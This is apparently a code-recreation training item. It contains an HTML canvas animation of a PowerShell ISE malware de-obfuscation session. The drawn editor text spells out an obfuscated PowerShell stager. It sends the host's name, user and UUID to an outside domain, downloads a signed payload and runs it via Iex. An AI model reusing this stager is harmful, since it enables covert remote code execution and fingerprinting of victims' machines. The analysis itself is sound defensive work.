
Recreate the animation shown at these times as an HTML page with a canvas. Size 1079 px wide and 519 px high, loop 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Script editor</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="1079" height="519"></canvas>
<script>
const W = 1079, H = 519, LOOP = 8000;
const CELL = 5.886, ROW = 10.62, LEFT = 48.5, BASE = 48.2;
const MONO = '9.776px "DejaVu Sans Mono", monospace';
const UI = '6.8px "Open Sans", sans-serif';
const NAVY = '#012456';
const INK = { str: '#8b0000', vari: '#ff4500', key: '#00008b', type: '#008080', arg: '#8a2be2',
  cmd: '#0000ff', num: '#800080', op: '#a9a9a9', text: '#000' };

const KEY = '2mWol7uXvG1BXpmdgv8v/3NTmnNubHtV62fWrk4jPFI9wM3NN2vzTzticIYHlm7K3r2mT/YR0WDciL818pLub' +
  'Lgum30r0Rkwc8ZSAc3nxzR4iqef4hLNeUCnkWqulY5C0M85bjDLCpj';
const CODE = [
  'function a($u)',
  '{',
  '$d=(Ne`w-Obj`ect Net.WebC`lient)."DownloadData"($u);',
  '$c=$d.count;',
  '    if($c -gt 173)',
  '    {',
  '        $b=$d[173..$c];',
  '        $p=New-Object Security.Cryptography.RSAParameters;',
  '        $p.Modulus',
  "        [convert]::FromBase64String('" + KEY,
  '        $p.Exponent=0x01,0x00,0x01;',
  '        $r=New-Object Security.Cryptography.RSACryptoServiceProvider;',
  '        $r.ImportParameters($p);',
  '        if($r.verifyData($b,(New-Object Security.Cryptography.SHA1CryptoServiceProvider),' +
    '[convert]::FromBase64String(-join([char[]]$d[0..171]))))',
  '        {',
  '            I`ex(-join[char[]]$b)',
  '        }',
  '    }',
  '}',
  "$url='http://'+'t.pp6'+'r1.com';"
];
const ARGS = "($url+'/a.jsp?'+(@($env:COMPUTERNAME,$env:USERNAME," +
  "(get-wmiobject Win32_ComputerSystemProduct).UUID,(random))-join'*'))";
const PROMPT = 'PS C:\\Users\\Torvenik\\Desktop\\De-Obfuscation Stages>';
const RESULT = '/a.jsp?BRELK-WIN*Torvenik*B120E165-E872-4D1F-969F-279A3C98C4F6*14599936';

// Timeline in ms
const CLICK = 1200, ERASE = 2000, DRAG = 4700, DROP = 5200, RUN = 7150, DONE = 7460;
const KEYS = [2300, 2420, 2540, 2660, 2780, 3000, 3140, 3260, 3380, 3500, 3640];
const MOUSE = [ // time, x, y
  [350, 300, -14], [1050, 55, 268], [1250, 55, 268], [1550, 102, 278], [4250, 102, 278],
  [4620, 860, 271], [DRAG, 860, 271], [DROP, 89, 258], [5900, 89, 258], [6500, 219, 11],
  [7200, 219, 11], [7800, 346, 335]
];

const TOKENS = [
  ['str', /'[^']*'?|"[^"]*"/],
  ['vari', /\$[\w:]+/],
  ['key', /\b(?:function|if)\b/],
  ['type', /(?<=\[)(?:convert|char)/],
  ['arg', /Security\.[\w.]+|Net\.WebC`lient|Win32_\w+|(?<=function )a/],
  ['cmd', /New-Object|Ne`w-Obj`ect|get-wmiobject|random|I`ex|^\w[\w-]*(?=[ (])/],
  ['num', /\b(?:0x)?\d+\b/],
  ['op', /-(?:join|gt)|[=+.,:\[\]]+/],
  ['text', /\w+|[^\w]/]
];
const LEXER = new RegExp(TOKENS.map(([name, re]) => `(?<${name}>${re.source})`).join('|'), 'g');

const stage = document.getElementById('stage').getContext('2d');
const backdrop = document.createElement('canvas');
backdrop.width = W;
backdrop.height = H;
let g = backdrop.getContext('2d');

function rect(x, y, w, h, fill) {
  g.fillStyle = fill;
  g.fillRect(x, y, w, h);
}

function frame(x, y, w, h, stroke, fill) {
  if (fill) rect(x, y, w, h, fill);
  g.strokeStyle = stroke;
  g.lineWidth = 1;
  g.strokeRect(x + .5, y + .5, w - 1, h - 1);
}

function line(color, width, ...pts) {
  g.strokeStyle = color;
  g.lineWidth = width;
  g.beginPath();
  for (let i = 0; i < pts.length; i += 2) g.lineTo(pts[i], pts[i + 1]);
  g.stroke();
}

function poly(color, ...pts) {
  g.fillStyle = color;
  g.beginPath();
  for (let i = 0; i < pts.length; i += 2) g.lineTo(pts[i], pts[i + 1]);
  g.fill();
}

function vGrad(y0, y1, top, bottom) {
  const fill = g.createLinearGradient(0, y0, 0, y1);
  fill.addColorStop(0, top);
  fill.addColorStop(1, bottom);
  return fill;
}

function label(text, x, y, color) {
  g.font = UI;
  g.fillStyle = color;
  g.fillText(text, x, y);
}

// Monospaced text on a fixed grid of cells
function mono(text, x, y, color) {
  g.font = MONO;
  g.textRendering = 'geometricPrecision';
  g.fillStyle = color;
  for (let i = 0; i < text.length; i++) {
    if (text[i] !== ' ') g.fillText(text[i], x + i * CELL, y);
  }
}

const rowY = n => BASE + (n - 1) * ROW;

function codeLine(text, n) {
  for (const m of text.matchAll(LEXER)) {
    const kind = Object.keys(m.groups).find(k => m.groups[k] !== undefined);
    mono(m[0], LEFT + m.index * CELL, rowY(n), INK[kind]);
  }
}

function curl(x, dir, color) {
  g.strokeStyle = color;
  g.lineWidth = 1.8;
  g.beginPath();
  g.arc(x, 11, 3.6, dir < 0 ? -2.5 : -.64, dir < 0 ? 1 : 2.14, dir > 0 && false);
  g.stroke();
  poly(color, x + dir * 5.5, 6, x + dir * 5.5, 11.5, x + dir * .5, 10.5);
}

function scissors(color) {
  line(color, 1.2, 67, 6, 71, 13);
  line(color, 1.2, 72, 6, 68, 13);
  g.lineWidth = 1.3;
  for (const x of [67, 71.5]) {
    g.beginPath();
    g.arc(x, 14, 1.4, 0, 7);
    g.stroke();
  }
}

function runPart(color, edge) {
  frame(213, 6, 8, 10, edge, '#fff');
  for (const y of [8.5, 10.5, 12.5]) line(edge, .8, 214, y, 218, y);
  poly(color, 217.5, 7.5, 217.5, 15.5, 223, 11.5);
}

function pane(x, side) {
  frame(x - 5, 7, 11, 9, '#7088a8', '#fff');
  rect(x - 5, 7, 11, 2, '#8298b4');
  if (side) line('#7088a8', 1, x + 2.5, 8, x + 2.5, 15);
}

function drawToolbar() {
  rect(0, 0, W, 3, '#e9f0fa');
  rect(0, 3, W, 17, vGrad(3, 20, '#f3f8fe', '#dae6f5'));
  rect(0, 20, W, 17, '#eaf1fa');
  rect(0, 20, W, 1, '#cfdcec');
  [['File', 5], ['Edit', 23], ['View', 45], ['Tools', 68], ['Debug', 92], ['Add-ons', 122], ['Help', 158]]
    .forEach(([text, x]) => label(text, x, 1.5, '#202020'));

  poly('#fff', 8, 6, 13, 6, 16, 9, 16, 16, 8, 16);
  line('#8fa0b8', 1, 8, 6, 13, 6, 16, 9, 16, 16, 8, 16, 8, 6);
  poly('#f0a030', 7, 5, 10, 5, 10, 8, 7, 8);
  poly('#d9a13c', 26, 7, 30, 7, 31, 8, 35, 8, 35, 15, 26, 15);
  poly('#fbd772', 28, 10, 37, 10, 35, 15, 26, 15);
  frame(45, 6, 10, 10, '#2a4d8f', '#3f6fbd');
  rect(47, 6, 6, 4, '#eef4ff');
  rect(47, 12, 6, 4, '#c9d6ea');
  frame(84, 6, 6, 8, '#b7c0cd', '#f7f9fc');
  frame(87, 8, 6, 8, '#b7c0cd', '#f7f9fc');
  frame(104, 7, 8, 10, '#454c58', '#fff');
  rect(105, 6, 6, 3, '#5b6470');
  line('#2d6a78', 1.7, 123, 7, 131, 15);
  line('#35506b', 1.4, 127, 11, 123, 15);
  line('#35506b', 1.4, 126, 7, 130, 8);
  poly('#2eb135', 195, 6, 195, 16, 202, 11);
  frame(233, 6, 9, 10, '#777', '#8a8a8a');
  frame(259, 8, 6, 5, '#37568c', '#9db9e2');
  rect(263, 10, 5, 5, '#24306f');
  rect(285, 6, 9, 10, '#2178ac');
  frame(308, 4, 15, 14, '#70829b', '#dce6ee');
  pane(315);
  line('#7088a8', 1, 310, 12.5, 321, 12.5);
  pane(335, true);
  pane(354);
  frame(376, 7, 9, 9, '#426da2', '#dceaf9');
  rect(379, 6, 4, 3, '#426da2');
  rect(379, 10, 4, 4, '#4b94cc');
  pane(400, true);
  rect(401, 9, 4, 6, '#3f76b5');
  rect(412, 13, 3, 1, '#444');
  poly('#444', 412, 15, 415, 15, 413.5, 17);
  for (const x of [140, 185, 250, 275, 301, 367]) rect(x, 5, 1, 13, '#b5c4d8');
}

function drawBackdrop() {
  rect(0, 0, W, H, '#fff');
  drawToolbar();

  g.beginPath();
  g.roundRect(4.5, 23.5, 86, 16, 3);
  g.fillStyle = vGrad(23, 38, '#f6fafe', '#c9def4');
  g.fill();
  g.strokeStyle = '#91a9c7';
  g.lineWidth = 1;
  g.stroke();
  label('ScheduledTask.ps1*', 10, 33.5, '#101010');
  line('#333', 1.2, 78, 28.5, 83, 33.5);
  line('#333', 1.2, 83, 28.5, 78, 33.5);
  rect(0, 37, W, 1, '#b4c8e0');
  rect(0, 38, W, 253, '#fff');

  for (let n = 1; n <= 22; n++) mono(String(n).padStart(2), 20.3, rowY(n), '#2b91af');
  line('#a5a5a5', 1, 44.5, 60, 44.5, 241.5, 48, 241.5);
  for (const n of [17, 18]) line('#a5a5a5', 1, 44.5, rowY(n) + 2.3, 47, rowY(n) + 2.3);
  for (const n of [2, 6, 15]) {
    const y = Math.round(rowY(n) - 6);
    frame(40, y, 7, 7, '#909090', '#fff');
    rect(42, y + 3, 3, 1, '#333');
  }
  CODE.forEach((text, i) => codeLine(text, i + 1));

  rect(2, 291, W, 10, '#f0f0f0');
  rect(13, 291, 869, 10, '#cbcbcb');
  line('#808080', 1, 9, 294, 6.5, 296.2, 9, 298.5);
  rect(0, 301, W, 4, '#d9e5f3');
  rect(0, 303, W, 1, '#a9bfd9');
  rect(0, 38, 2, H, '#e3ecf7');
  rect(2, 304.5, W, H, NAVY);
  mono(PROMPT, 11.5, 315.5, '#f2f4f8');
}

function mouseAt(t) {
  const next = MOUSE.findIndex(p => p[0] > t);
  if (next === 0) return MOUSE[0].slice(1);
  if (next < 0) return MOUSE[MOUSE.length - 1].slice(1);
  const [t0, x0, y0] = MOUSE[next - 1], [t1, x1, y1] = MOUSE[next];
  const u = (t - t0) / (t1 - t0), e = u * u * (3 - 2 * u);
  return [x0 + (x1 - x0) * e, y0 + (y1 - y0) * e];
}

function drawMouse(x, y) {
  if (y < 40) {
    const pts = [0, 0, 0, 9.5, 2.2, 7.6, 3.8, 11, 5.2, 10.3, 3.7, 7.1, 6.6, 7, 0, 0]
      .map((v, i) => v + (i % 2 ? y : x));
    poly('#fff', ...pts);
    line('#000', .8, ...pts);
    return;
  }
  const color = y > 304 ? '#c9d2e0' : '#111';
  line(color, 1.2, x, y - 5, x, y + 5);
  for (const d of [-5, 5]) line(color, 1.2, x - 2.5, y + d, x + 2.5, y + d);
}

const blinkOn = (t, since) => (t - since) % 1060 < 530;

function drawIcons(t) {
  const idle = '#a9b1bc', active = t < RUN;
  scissors(active ? '#3277b8' : idle);
  curl(154, -1, active ? '#2f7fc4' : idle);
  curl(173, 1, t < CLICK ? '#2f7fc4' : idle);
  if (t > 6450 && t < 7270) frame(210, 4, 15, 14, '#8ea08d', '#cfdac9');
  if (t < CLICK) runPart('#b9bfc4', '#b4bac2');
  else runPart('#2eb135', '#7d90a8');
}

function drawEditor(t, mx, my) {
  const typed = KEYS.filter(k => k <= t).length;
  const head = t < ERASE ? 'a' : 'Write-Host '.slice(0, typed);
  const text = head + ARGS;
  const endX = LEFT + text.length * CELL;
  const top = rowY(22) - 8.6;
  let caretX = LEFT + head.length * CELL, caretTop = top;
  let since = Math.max(CLICK, ...[ERASE, ...KEYS].filter(k => k <= t));

  if (t >= DRAG) {
    const tint = t < RUN ? '#99c9ef' : '#c0c0c0';
    const above = t >= DROP || my < top;
    const col = Math.max(0, Math.min(text.length, Math.round((mx - LEFT) / CELL)));
    caretX = above ? LEFT : LEFT + col * CELL;
    rect(caretX, top, endX - caretX, 11.4, tint);
    if (above) {
      caretTop = top - ROW;
      rect(LEFT, caretTop, 5.8, ROW + .5, tint);
    }
    since = Math.min(t, DROP);
  } else if (t >= CLICK) {
    rect(caretX, top, CELL, 11, '#dcdcdc');
    rect(endX - CELL, top, CELL, 11, '#dcdcdc');
  }
  codeLine(text, 22);
  if (t >= CLICK && t < RUN && blinkOn(t, since)) rect(Math.round(caretX), caretTop, 1.2, 11, '#000');
}

function drawConsole(t) {
  const white = '#f2f4f8';
  if (t >= RUN) mono('Write-Host ' + ARGS, 11.5, 326.5, white);
  if (t < DONE) return;
  mono(RESULT, 11.5, 337, white);
  mono(PROMPT, 11.5, 358, white);
  if (blinkOn(t, DONE)) rect(318, 350, 1, 10, '#d5dbe6');
}

function draw(t) {
  const [mx, my] = mouseAt(t);
  g.drawImage(backdrop, 0, 0);
  drawIcons(t);
  drawEditor(t, mx, my);
  drawConsole(t);
  drawMouse(mx, my);
}

drawBackdrop();
g = stage;

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
